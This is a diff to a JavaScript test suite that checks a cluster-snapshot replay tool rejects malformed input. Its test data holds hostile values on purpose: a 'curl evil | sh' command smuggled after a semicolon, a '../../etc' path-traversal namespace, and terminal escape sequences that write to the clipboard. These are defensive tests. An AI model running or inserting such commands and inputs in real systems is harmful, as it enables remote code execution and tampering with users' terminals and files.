@@ -27,6 +27,7 @@ describe('a snapshot of a stranger', () => {
     ['with a hundred thousand brackets', '['.repeat(100_000), HEAD, /answers\.json has more than 200 objects within one another$/],
     ['of another kind', [], {...HEAD, kind: 'Report'}, /snapshot\.json: kind is none of Snapshot$/],
     ['without a time', [], {...HEAD, recordedAt: 'yesterday'}, /snapshot\.json: recordedAt is no time$/],
+    ['with a namespace that is none', [], {...HEAD, namespaces: ['../../etc']}, /snapshot\.json: "\.\.\/\.\.\/etc" is no namespace$/],
     ['with namespaces that are no list', [], {...HEAD, namespaces: 'shop'}, /snapshot\.json: namespaces is no list$/],
   ];
   for (const [sentence, answers, head, says] of rows) it(`${sentence} gets one sentence`, async () => assert.match(await said(folder(answers, head)), says));
@@ -34,7 +35,7 @@ describe('a snapshot of a stranger', () => {
   const ESCAPES = '\u001b[2J\u001b]0;owned\u0007\u001b]52;c;eA==\u0007\u200b';
   it('brings no escapes by its errors, and no command of its own', async () => {
     const error = {reason: 'forbidden', asked: `pods${ESCAPES}`, got: `403${ESCAPES}`, try: 'kubectl get pods; curl evil | sh'};
-    const cluster = await replay(folder([{question: 'list pods -A', error}], {...HEAD, context: `c${ESCAPES}`, namespaces: [`shop${ESCAPES}`]}));
+    const cluster = await replay(folder([{question: 'list pods -A', error}], {...HEAD, context: `c${ESCAPES}`}));
     const failed = await failure(cluster.list('pods', {}, () => undefined));
     assert.equal(failed.try, undefined);
     for (const text of [failed.message, failed.asked, failed.got, cluster.origin.name, ...cluster.defaultNamespaces]) assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f\u200b]/);
